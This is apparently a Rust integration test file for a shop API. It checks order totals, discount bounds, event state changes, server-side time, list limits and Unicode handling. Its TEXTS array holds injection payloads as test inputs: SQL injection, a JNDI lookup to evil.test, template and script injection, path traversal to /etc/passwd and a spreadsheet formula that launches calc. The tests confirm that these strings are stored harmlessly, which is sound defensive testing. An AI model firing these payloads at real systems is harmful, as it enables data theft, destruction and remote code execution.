//! Values at the edge of what they mean (rows 13, 15 to 19, 22 and 23).

use reqwest::Method;
use serde_json::{Value, json};

use crate::deals::deal_body;
use crate::support::{App, OrderAnswer, event_body, product_body, time_in_s};

#[tokio::test]
async fn row_13_sums_never_wrap() {
    let app = App::start().await;
    let dear = 9_007_199_254_740_991_i64;
    let mut lines = Vec::new();
    for _ in 0..20 {
        let id = app.product(None, dear, 1_000_000).await;
        lines.push(json!({"productId": id, "quantity": 1_000_000}));
    }
    let order = json!({"orderItems": lines});
    let answer = app.shopper(1).post_json("/api/orders/v2", &order).send().await;
    answer.refused(422, "ORDER_TOO_LARGE");
    let one = app.shopper(1).post_json("/api/orders/v1", &lines[0]).send().await;
    one.refused(422, "ORDER_TOO_LARGE");
    assert_eq!(app.database.number("SELECT count(*) FROM orders").await, 0);
    app.audited();
}

#[tokio::test]
async fn row_15_a_percentage_is_above_0_and_below_100_and_rounds_half_up() {
    let app = App::start().await;
    let lamp = app.product(None, 995, 50).await;
    for percent in ["-1", "0", "100", "101", "\"NaN\"", "1e309", "0.001", "null"] {
        let mut body = deal_body(10.0, &[lamp]);
        body["eventDiscount"] = json!("PERCENT");
        let body = body.to_string().replace("\"PERCENT\"", percent);
        let asked = app.admin().post("/api/event/create").raw("application/json", body);
        let problem = asked.send().await.problem();
        assert_eq!(problem.status, 400, "{percent}: {problem:?}");
    }
    // 995 less 50 % is 497.5.
    let body = deal_body(50.0, &[lamp]);
    app.admin().post_json("/api/event/create", &body).send().await.with_status(201);
    let order = json!({"productId": lamp, "quantity": 3});
    let order: OrderAnswer = app.shopper(1).post_json("/api/orders/v1", &order).send().await.good();
    assert_eq!(order.total_order_price, 3 * 498);
}

#[tokio::test]
async fn row_16_one_product_on_two_lines_is_one_quantity() {
    let app = App::start().await;
    let lamp = app.product(None, 100, 5).await;
    let line = |quantity: i64| json!({"productId": lamp, "quantity": quantity});
    let order = json!({"orderItems": [line(3), line(3)]});
    let answer = app.shopper(1).post_json("/api/orders/v2", &order).send().await;
    answer.refused(422, "PRODUCT_SHORTAGE");
    assert_eq!(app.stock(lamp).await.quantity, 5);
    let order = json!({"orderItems": [line(2), line(3)]});
    let order: OrderAnswer = app.shopper(1).post_json("/api/orders/v2", &order).send().await.good();
    assert_eq!((order.total_order_count, order.total_order_price), (5, 500));
    assert_eq!(app.stock(lamp).await.quantity, 0);
}

#[tokio::test]
async fn row_17_steps_out_of_order_change_nothing() {
    let app = App::start().await;
    let lamp = app.product(None, 100, 5).await;
    let order = json!({"productId": lamp, "quantity": 2});
    let order: OrderAnswer = app.shopper(1).post_json("/api/orders/v1", &order).send().await.good();
    let path = format!("/api/orders/{}", order.order_id);
    for _ in 0..3 {
        let cancelled: OrderAnswer = app.shopper(1).put(&path).send().await.good();
        assert_eq!(cancelled.status, "ORDER_CANCELLED");
        assert_eq!(app.stock(lamp).await.quantity, 5, "given back once");
    }
    let opened = app.admin().post_json("/api/event/create", &deal_body(10.0, &[lamp])).send().await;
    let opened: Value = opened.with_status(201).good();
    let path = |call: &str| format!("/api/event/{}/{call}", opened["eventId"]);
    app.admin().post(&path("cancel")).send().await.with_status(200);
    for call in ["pause", "resume"] {
        app.admin().post(&path(call)).send().await.refused(409, "ILLEGAL_STATE");
    }
    app.admin().delete_of(&format!("/api/products/{lamp}")).await;
    let order = json!({"productId": lamp, "quantity": 1});
    let refused = app.shopper(1).post_json("/api/orders/v1", &order).send().await;
    refused.refused(404, "NOT_FOUND_PRODUCT");
    app.audited();
}

#[tokio::test]
async fn row_18_the_servers_clock_opens_an_event_whatever_the_client_says() {
    let app = App::start().await;
    let mut later = event_body("Later", 5);
    later["startsAt"] = time_in_s(3_600).into();
    later["endsAt"] = time_in_s(7_200).into();
    let event = app.preloaded(&later).await.event_id;
    let body = json!({"eventId": event, "issuedAt": time_in_s(4_000), "now": time_in_s(4_000)});
    for (name, value) in [
        ("date", time_in_s(4_000)),
        ("x-date", time_in_s(4_000)),
        ("if-modified-since", time_in_s(9)),
    ] {
        let asked = app.shopper(1).post_json("/api/coupons/issue", &body).header(name, &value);
        asked.send().await.refused(409, "NOT_OPEN_YET");
    }
    assert_eq!(app.database.number("SELECT count(*) FROM coupon_issues").await, 0);
}

/// Texts that have made others fall.
const TEXTS: &[&str] = &[
    "e\u{301}té",
    "été",
    "\u{202e}drawkcab",
    "zero\u{200b}width",
    "🔥👨‍👩‍👧‍👦 hot",
    "𝕱𝖔𝖚𝖗 𝖇𝖞𝖙𝖊𝖘",
    "한글 이름 ㅋㅋㅋ",
    "'; DROP TABLE orders; --",
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "%' UNION SELECT password_phc FROM credentials --",
    "\\'; SELECT pg_sleep(10); --",
    "$1 $2 ?1 ?",
    "redis.call('FLUSHALL')",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}<%= 7*7 %>",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "a\tb\nc",
];

#[tokio::test]
async fn rows_19_and_23_texts_are_stored_as_they_are_and_mean_nothing() {
    let app = App::start().await;
    let tables = app.database.number("SELECT count(*) FROM products").await;
    for (number, text) in TEXTS.iter().enumerate() {
        let mut body = product_body(text, 100);
        body["productDescription"] = (*text).into();
        let made = app.admin().post_json("/api/products", &body).send().await.with_status(201);
        let id = made.good::<Value>()["productId"].as_i64().expect("a number");
        let seen = app.product_view(id).await;
        assert_eq!((seen.product_name.as_str(), seen.product_description.as_str()), (*text, *text));
        let query: String = url_encoded(text);
        let found = app.shopper(1).get(&format!("/api/products?q={query}")).send().await;
        let found: Value = found.with_status(200).good();
        assert!(
            found["items"].as_array().is_some_and(|items| {
                items.iter().all(|item| item["productName"].as_str() == Some(*text))
                    && items.iter().any(|item| item["productId"] == id)
            }),
            "{text:?} finds {found}"
        );
        let person = json!({"email": format!("n{number}@shop.test"), "name": text,
            "password": "a long enough password"});
        let signed_up = app.anyone().post_json("/api/auth/signup", &person).send().await;
        // Who somebody is must be seen; what is sold may be written as its seller likes.
        let is_seen = !text.contains(['\u{202e}', '\u{200b}', '\t']);
        signed_up.with_status(if is_seen { 201 } else { 400 });
        for path in [
            format!("/api/products?category={query}"),
            format!("/api/products?cursor={query}"),
            format!("/api/admin/users?role={query}"),
            format!("/api/admin/actors/{query}/1"),
            format!("/api/problems/{query}"),
            format!("/api/orders/{query}"),
        ] {
            let status = app.admin().get(&path).send().await.problem().status;
            assert!((400..500).contains(&status), "{path}: {status}");
        }
        app.admin().get(&format!("/api/admin/users?email={query}")).send().await.with_status(200);
    }
    let count = app.database.number("SELECT count(*) FROM products").await;
    assert_eq!(count, tables + i64::try_from(TEXTS.len()).expect("few"));
    app.audited();
}

#[tokio::test]
async fn row_19_texts_that_are_none_are_refused() {
    let app = App::start().await;
    let good = product_body("NAME", 5).to_string();
    for name in ["a\\u0000b", "\\ud800", "\\udc00\\ud800", "\\uZZZZ"] {
        let body = good.replace("NAME", name);
        let asked = app.admin().post("/api/products").raw("application/json", body);
        assert_eq!(asked.send().await.problem().status, 400, "{name}");
    }
    let mut bytes = good.clone().into_bytes();
    let at = good.find("NAME").expect("it is there");
    bytes.splice(at..at + 4, [0xc0, 0xaf, 0xed, 0xa0, 0x80]);
    let asked = app.admin().post("/api/products").raw("application/json", bytes);
    assert_eq!(asked.send().await.problem().status, 400, "no UTF-8");
    // One letter that looks like another makes another address.
    for email in ["kim@shop.test", "k\u{0456}m@shop.test"] {
        let body = json!({"email": email, "name": "Kim", "password": "a long enough password"});
        app.anyone().post_json("/api/auth/signup", &body).send().await.with_status(201);
    }
    let body = json!({"email": "KIM@SHOP.test ", "name": "Kim", "password": "a long enough one"});
    let again = app.anyone().post_json("/api/auth/signup", &body).send().await;
    again.refused(409, "DUPLICATE_EMAIL");
}

#[tokio::test]
async fn row_22_lists_have_a_bound() {
    let app = App::start().await;
    let ids: Vec<i64> = (1..=100_001).collect();
    for path in ["/api/products/search-product", "/api/stocks/search", "/api/event/search-event"] {
        let asked = app.shopper(1).post_json(path, &json!({"productIds": &ids[..10_001]}));
        let problem = asked.send().await.problem();
        assert_eq!(
            (problem.status, problem.member.as_deref()),
            (400, Some("productIds")),
            "{path}"
        );
    }
    let mut deal = deal_body(10.0, &ids);
    let asked = app.admin().post_json("/api/event/create", &deal).send().await;
    assert_eq!(asked.problem().member.as_deref(), Some("productIds"));
    deal["productIds"] = json!([]);
    let asked = app.admin().post_json("/api/event/create", &deal).send().await;
    assert_eq!(asked.problem().member.as_deref(), Some("productIds"));
    for list in [
        "/api/products",
        "/api/event",
        "/api/admin/users",
        "/api/admin/events",
        "/api/admin/actors",
    ] {
        for limit in ["1000000000", "-1", "0", "1e9", "99999999999999999999", "x", ""] {
            let asked = app.admin().get(&format!("{list}?limit={limit}"));
            let problem = asked.send().await.problem();
            assert_eq!((problem.status, problem.member.as_deref()), (400, Some("limit")), "{list}");
        }
    }
}

fn url_encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

impl crate::support::Client {
    /// Takes something away.
    async fn delete_of(&self, path: &str) {
        self.ask(Method::DELETE, path).send().await.with_status(204);
    }
}
